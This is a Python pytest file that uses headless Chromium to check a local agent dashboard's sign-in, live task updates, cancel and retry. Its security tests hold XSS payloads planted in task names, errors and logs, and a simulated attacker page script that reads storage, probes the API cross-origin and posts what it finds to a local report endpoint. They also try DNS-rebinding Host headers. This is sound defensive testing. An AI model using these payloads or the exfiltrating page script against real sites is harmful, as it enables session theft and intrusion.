"""The dashboard in a real browser: Debian's headless Chromium driven by selenium through the
system chromedriver (nothing downloaded). The page signs in with the token, lists the services
healthy, shows a task submitted from Python turn COMPLETED without a reload, and cancels one.
Then as an attacker on the same machine would: another local server opened in the same browser
gets nothing that opens anything, hostile task and log content stays text, and every route
refuses a request without a session, with a wrong Host or from a foreign Origin."""

from __future__ import annotations

import asyncio
import http.client
import http.server
import json
import os
import shutil
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from selenium import webdriver
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By

import grpc
from dspy_agent_infra import AgentInfra, Task
from helpers import http_service, inspect, port_stubs

CHROMIUM = os.environ.get("DSPY_AGENT_CHROMIUM", "/usr/bin/chromium")
CHROMEDRIVER = os.environ.get("DSPY_AGENT_CHROMEDRIVER", "/usr/bin/chromedriver")


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    assert shutil.which(CHROMIUM) and shutil.which(CHROMEDRIVER), (
        "Debian's chromium and chromium-driver are needed (scripts/test.sh installs them)"
    )
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--window-size=1400,1000",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
    ):
        options.add_argument(argument)
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        yield driver
    finally:
        driver.quit()


async def until(check: Callable[[], Any], what: str, limit: float = 30) -> Any:
    """Polls `check` (which drives the browser, so in a thread) until it gives a true value."""
    deadline = time.monotonic() + limit
    last: Any = None
    while time.monotonic() < deadline:
        try:
            last = await asyncio.to_thread(check)
        except WebDriverException as e:
            last = e
        if last and not isinstance(last, Exception):
            return last
        await asyncio.sleep(0.1)
    raise AssertionError(f"{what}: still {last!r} after {limit} s")


def status(url: str, headers: dict[str, str] | None = None, data: bytes | None = None) -> int:
    request = urllib.request.Request(url, headers=headers or {}, data=data)
    try:
        with urllib.request.urlopen(request, timeout=10) as r:
            return int(r.status)
    except urllib.error.HTTPError as e:
        return int(e.code)


def raw(
    addr: str, method: str, path: str, headers: dict[str, str], host: str | None = None
) -> tuple[int, dict[str, str]]:
    """One request with exactly these headers (`Host` as given, or the address itself)."""
    connection = http.client.HTTPConnection(addr, timeout=10)
    try:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        connection.putheader("Host", host if host is not None else addr)
        for k, v in headers.items():
            connection.putheader(k, v)
        if method == "POST":
            connection.putheader("Content-Length", "0")
        connection.endheaders()
        answer = connection.getresponse()
        answer.read(4096) if answer.status != 200 else None
        return answer.status, {k.lower(): v for k, v in answer.getheaders()}
    finally:
        connection.close()


def sign_in_form(browser: webdriver.Chrome, token: str) -> None:
    browser.find_element(By.ID, "token").send_keys(token)
    browser.find_element(By.CSS_SELECTOR, "#login button").click()


async def test_the_dashboard_in_a_browser(
    browser: webdriver.Chrome, project: str, tmp_path: Path
) -> None:
    async with AgentInfra.start(
        project=project, services=["web"], config={"services": {"web": http_service()}}
    ) as infra:
        gate = asyncio.Event()

        @infra.task_handler("quick")
        async def quick(task: Task) -> str:
            await gate.wait()
            return "done"

        slow_payloads: list[tuple[str, Any]] = []

        @infra.task_handler("slow")
        async def slow(task: Task) -> None:
            slow_payloads.append((task.task_id, task.payload))
            await asyncio.sleep(3600)

        base = f"http://{infra.http_addr}"
        assert infra.token is not None
        # Without the token: 401 and no data, on the page and on the API alike.
        assert status(f"{base}/api/state") == 401
        assert (
            status(f"{base}/api/tasks", {"Authorization": "Bearer wrong-token-0123456789"}) == 401
        )
        # A script may act with the token itself (no Origin: not a page).
        bearer = {"Authorization": f"Bearer {infra.token}"}
        assert status(f"{base}/api/tasks/none/cancel", bearer, b"") == 404

        def page_text() -> str:
            return str(browser.find_element(By.TAG_NAME, "body").text)

        await asyncio.to_thread(browser.get, f"{base}/")
        await until(lambda: browser.find_element(By.ID, "token").is_displayed(), "the sign-in form")
        assert "web" not in page_text()
        await asyncio.to_thread(sign_in_form, browser, "not-the-token-0123456789")
        await until(
            lambda: "not this stack's" in browser.find_element(By.ID, "login-error").text,
            "a wrong token refused",
        )
        await asyncio.to_thread(sign_in_form, browser, infra.token)

        def service_health() -> str:
            row = browser.find_element(By.CSS_SELECTOR, 'tr[data-service="web"]')
            return str(row.find_elements(By.TAG_NAME, "td")[2].text)

        assert await until(lambda: service_health() == "healthy", "web listed healthy")
        # Marks this page load: a reload would lose it.
        await asyncio.to_thread(browser.execute_script, "window.sameLoad = true")

        def task_state(task_id: str) -> str | None:
            rows = browser.find_elements(By.CSS_SELECTOR, f'tr[data-task="{task_id}"]')
            return str(rows[0].find_elements(By.TAG_NAME, "td")[2].text) if rows else None

        await infra.submit_task("q-1", "quick", {"n": 1})
        await until(lambda: task_state("q-1") in ("PENDING", "RUNNING"), "q-1 listed")
        gate.set()
        await until(lambda: task_state("q-1") == "COMPLETED", "q-1 completed on the page")
        assert await asyncio.to_thread(browser.execute_script, "return window.sameLoad === true")

        await infra.submit_task("s-1", "slow", {"k": "v"})
        await until(lambda: task_state("s-1") == "RUNNING", "s-1 running on the page")

        def click_cancel() -> bool:
            row = browser.find_element(By.CSS_SELECTOR, 'tr[data-task="s-1"]')
            row.find_element(By.CSS_SELECTOR, "button.cancel").click()
            return True

        await until(click_cancel, "the cancel button")
        await until(lambda: task_state("s-1") == "CANCELLED", "s-1 cancelled on the page")
        assert (await infra.get_task_status("s-1")).status.name == "CANCELLED"

        # Retry runs it again as a new task, with the same payload.
        def click_retry() -> bool:
            row = browser.find_element(By.CSS_SELECTOR, 'tr[data-task="s-1"]')
            row.find_element(By.CSS_SELECTOR, "button.retry").click()
            return True

        await until(click_retry, "the retry button")
        retried = await until(
            lambda: [p for p in slow_payloads if p[0].startswith("s-1-retry-")], "s-1 retried"
        )
        assert slow_payloads[0][0] == "s-1"
        assert retried[0][1] == slow_payloads[0][1] and b'"k"' in retried[0][1]
        await until(lambda: task_state(retried[0][0]) == "RUNNING", "the retry on the page")
        await until(
            lambda: "CANCELLED 1" in browser.find_element(By.ID, "counts").text,
            "the counts updated live",
        )

        # Its detail: attempts, timings, the result.
        await asyncio.to_thread(
            lambda: browser.find_element(By.CSS_SELECTOR, 'tr[data-task="q-1"]').click()
        )
        await until(
            lambda: "done" in browser.find_element(By.ID, "detail-fields").text, "q-1's result"
        )
        shot = Path(os.environ.get("DSPY_AGENT_SCREENSHOT", tmp_path / "dashboard.png"))
        await asyncio.to_thread(browser.save_screenshot, str(shot))
        assert shot.stat().st_size > 10_000

        # The browser holds no cookie and no token, only the session.
        assert await asyncio.to_thread(browser.get_cookies) == []
        kept = await asyncio.to_thread(
            browser.execute_script, "return JSON.stringify(sessionStorage)"
        )
        assert infra.token not in kept and infra.token.encode().hex() not in kept
        session = json.loads(kept)["dspy-agent-session"]
        addr = str(infra.http_addr)
        assert raw(addr, "GET", "/api/state", {"X-Dspy-Agent-Session": session})[0] == 200

        # Signed out, the page asks for the token again, and the session opens nothing.
        await asyncio.to_thread(lambda: browser.find_element(By.ID, "sign-out").click())
        await until(
            lambda: browser.find_element(By.ID, "token").is_displayed(), "the sign-in form again"
        )
        assert raw(addr, "GET", "/api/state", {"X-Dspy-Agent-Session": session})[0] == 401


class Recorder(http.server.BaseHTTPRequestHandler):
    """Another local web server: records every request a browser sends it; its page reports
    what its script can see (its own cookies and storage) and tries the dashboard's API."""

    seen: ClassVar[list[dict[str, str]]] = []
    page = b""

    def do_GET(self) -> None:
        Recorder.seen.append(dict(self.headers.items()))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(Recorder.page)

    def do_POST(self) -> None:
        Recorder.seen.append(dict(self.headers.items()))
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        Recorder.seen.append({"reported": body.decode()})
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


def recorder_page(dashboard: str) -> bytes:
    return f"""<!doctype html><title>another server</title><script>
(async () => {{
  const report = {{ cookie: document.cookie, session: JSON.stringify(sessionStorage),
                    local: JSON.stringify(localStorage), tries: [] }};
  for (const [method, path] of [["GET", "/api/state"], ["POST", "/api/tickets"],
                                ["POST", "/api/services/web/restart"]]) {{
    try {{
      const r = await fetch("http://{dashboard}" + path, {{ method, credentials: "include" }});
      report.tries.push(path + " " + r.status + " " + await r.text());
    }} catch (e) {{ report.tries.push(path + " " + e); }}
  }}
  await fetch("/report", {{ method: "POST", body: JSON.stringify(report) }});
  document.title = "reported";
}})();
</script>""".encode()


async def test_another_local_server_gets_nothing_that_opens_anything(
    browser: webdriver.Chrome, project: str, pb: dict[str, Any]
) -> None:
    marker = "<img src=x onerror=window.pwned=1>"
    async with AgentInfra.start(
        project=project,
        services=["web"],
        config={
            "services": {
                "web": http_service(
                    command=[
                        "sh",
                        "-c",
                        f"echo '{marker} <script>window.pwned=2</script>'; exec /serve",
                    ]
                )
            }
        },
    ) as infra:
        assert infra.token is not None and infra.http_addr is not None
        addr = str(infra.http_addr)
        base = f"http://{addr}"

        @infra.task_handler(f"{marker}type")
        async def hostile(task: Task) -> None:
            raise RuntimeError(f"<script>window.pwned=3</script>{marker}")

        await infra.submit_task(f"{marker}id", f"{marker}type", {})
        # Sign in.
        await asyncio.to_thread(browser.get, f"{base}/")
        await until(lambda: browser.find_element(By.ID, "token").is_displayed(), "the sign-in form")
        await asyncio.to_thread(sign_in_form, browser, infra.token)
        await until(lambda: browser.find_element(By.ID, "dashboard").is_displayed(), "signed in")

        # Hostile task content is shown as text and runs nothing.
        def failed_row() -> bool:
            rows = browser.find_elements(By.CSS_SELECTOR, "#tasks tbody tr")
            for row in rows:
                if row.get_attribute("data-task") == f"{marker}id":
                    return "FAILED" in row.text and marker in row.text
            return False

        await until(failed_row, "the hostile task listed as text")

        def open_detail() -> bool:
            for row in browser.find_elements(By.CSS_SELECTOR, "#tasks tbody tr"):
                if row.get_attribute("data-task") == f"{marker}id":
                    row.click()
                    return True
            return False

        await until(open_detail, "the hostile task's row")
        await until(
            lambda: "window.pwned=3" in browser.find_element(By.ID, "detail-fields").text,
            "the hostile error shown as text",
        )
        # The logs button shows the service's output, as text.
        await asyncio.to_thread(
            lambda: browser.find_element(
                By.CSS_SELECTOR, 'tr[data-service="web"] button:not(.restart)'
            ).click()
        )
        await until(
            lambda: marker in browser.find_element(By.ID, "logs-text").text,
            "the hostile log line shown as text",
        )
        assert await asyncio.to_thread(browser.execute_script, "return window.pwned") is None
        assert not await asyncio.to_thread(
            browser.find_elements, By.CSS_SELECTOR, "#dashboard img, #dashboard script"
        )
        # The restart button restarts the service.
        container = infra.service("web").container_id or ""
        started_at = inspect(container)["State"]["StartedAt"]
        await asyncio.to_thread(
            lambda: browser.find_element(By.CSS_SELECTOR, 'tr[data-service="web"] .restart').click()
        )
        await until(
            lambda: inspect(container)["State"]["StartedAt"] != started_at,
            "web restarted from the page",
            limit=60,
        )
        session = str(
            await asyncio.to_thread(
                browser.execute_script, "return sessionStorage.getItem('dspy-agent-session')"
            )
        )

        # Another local server, opened in the same browser, gets nothing.
        Recorder.seen = []
        Recorder.page = recorder_page(addr)
        other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
        threading.Thread(target=other.serve_forever, daemon=True).start()
        try:
            await asyncio.to_thread(browser.get, f"http://127.0.0.1:{other.server_port}/")
            await until(lambda: browser.title == "reported", "the other page's report")
        finally:
            other.shutdown()
            other.server_close()
        received = [v for headers in Recorder.seen for v in headers.values()]
        assert not any("cookie" in {k.lower() for k in h} for h in Recorder.seen)
        for value in received:
            assert infra.token not in value and session not in value
            assert infra.token.encode().hex() not in value
        report = json.loads(next(h["reported"] for h in Recorder.seen if "reported" in h))
        assert report["cookie"] == "" and report["session"] == "{}"
        # Its page could read none of the dashboard's answers (a foreign Origin gets 403, and
        # no CORS header lets the browser show it anything).
        assert all("TypeError" in t for t in report["tries"]), report["tries"]

        # Whatever it received, replayed against the dashboard and both gRPC ports, opens
        # nothing.
        words = {w for v in received for w in v.replace(";", " ").replace("=", " ").split()}
        o, e = pb["orchestrator_v1_pb2"], pb["env_manager_v1_pb2"]
        async with port_stubs(pb, infra.orchestrator_addr, infra.env_manager_addr) as (orch, env):
            for word in sorted(words):
                for headers in (
                    {"Authorization": f"Bearer {word}"},
                    {"X-Dspy-Agent-Session": word},
                    {"Cookie": f"dspy_agent_token={word}"},
                ):
                    assert raw(addr, "GET", "/api/state", headers)[0] == 401, headers
                metadata = [("authorization", f"Bearer {word}")]
                with pytest.raises(grpc.aio.AioRpcError) as refused:
                    await orch.GetTaskStatus(o.GetTaskStatusRequest(task_id="x"), metadata=metadata)
                assert refused.value.code() == grpc.StatusCode.UNAUTHENTICATED
                with pytest.raises(grpc.aio.AioRpcError) as env_refused:
                    await env.GetResourceAvailability(
                        e.GetResourceAvailabilityRequest(), metadata=metadata
                    )
                assert env_refused.value.code() == grpc.StatusCode.UNAUTHENTICATED
            # Nor does the session itself open a gRPC port.
            with pytest.raises(grpc.aio.AioRpcError) as by_session:
                await orch.GetTaskStatus(
                    o.GetTaskStatusRequest(task_id="x"),
                    metadata=[("authorization", f"Bearer {session}")],
                )
            assert by_session.value.code() == grpc.StatusCode.UNAUTHENTICATED


ROUTES = [
    ("GET", "/api/state"),
    ("GET", "/api/events"),
    ("GET", "/api/tasks"),
    ("GET", "/api/tasks/x"),
    ("GET", "/api/services/web/logs"),
    ("GET", "/api/services/web/logs/stream"),
    ("POST", "/api/tickets"),
    ("POST", "/api/tasks/x/cancel"),
    ("POST", "/api/tasks/x/retry"),
    ("POST", "/api/services/web/restart"),
]


async def test_every_route_refuses_without_a_session_a_host_or_an_origin(
    project: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = {"services": {"web": http_service()}}
    async with AgentInfra.start(project=project, services=["web"], config=config) as infra:
        addr = str(infra.http_addr)
        port = addr.rpartition(":")[2]
        own = {"Origin": f"http://{addr}"}
        status_code, headers = raw(addr, "GET", "/", {})
        assert status_code == 200
        csp = headers["content-security-policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp
        assert headers["x-frame-options"] == "DENY"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert "set-cookie" not in headers
        signed = json.loads(
            urllib.request.urlopen(
                urllib.request.Request(
                    f"http://{addr}/api/session",
                    data=json.dumps({"token": infra.token}).encode(),
                    headers={**own, "Content-Type": "application/json"},
                ),
                timeout=10,
            ).read()
        )
        session = {"X-Dspy-Agent-Session": signed["session"]}
        answer = raw(addr, "GET", "/api/tasks", session)
        assert answer[0] == 200 and answer[1]["cache-control"] == "no-store"
        # A session can be had only from the page's own origin and with the token.
        assert raw(addr, "POST", "/api/session", {"Origin": "http://127.0.0.1:1"})[0] == 403
        for method, path in ROUTES:
            # No session (or a made-up one): 401.
            assert raw(addr, method, path, own)[0] == 401, (method, path)
            assert raw(addr, method, path, {**own, "X-Dspy-Agent-Session": "0" * 64})[0] == 401
            # Another name for this address (DNS rebinding), with a good session: 403.
            for host in (f"rebound.example:{port}", f"127.0.0.2:{port}", "127.0.0.1"):
                assert raw(addr, method, path, {**session}, host=host)[0] == 403, (path, host)
            # Another page's origin, with a good session: 403.
            for origin in ("http://127.0.0.1:1", "null", f"https://{addr}"):
                refused = raw(addr, method, path, {**session, "Origin": origin})
                assert refused[0] == 403, (method, path, origin)
        # A state change with a session but no Origin (not a browser's request): 403.
        assert raw(addr, "POST", "/api/tasks/x/cancel", session)[0] == 403
        assert raw(addr, "GET", "/metrics", {}, host=f"rebound.example:{port}")[0] == 403
        token = {"Authorization": f"Bearer {infra.token}"}
        assert raw(addr, "GET", "/metrics", token, host=f"localhost:{port}")[0] == 200
    # The session of a stack that stopped opens nothing, not even a new stack on that port.
    monkeypatch.setenv("DSPY_AGENT_HTTP_ADDR", addr)
    async with AgentInfra.start(project=project, services=["web"], config=config) as again:
        assert again.http_addr == addr
        for method, path in ROUTES:
            assert raw(addr, method, path, {**own, **session})[0] == 401, (method, path)
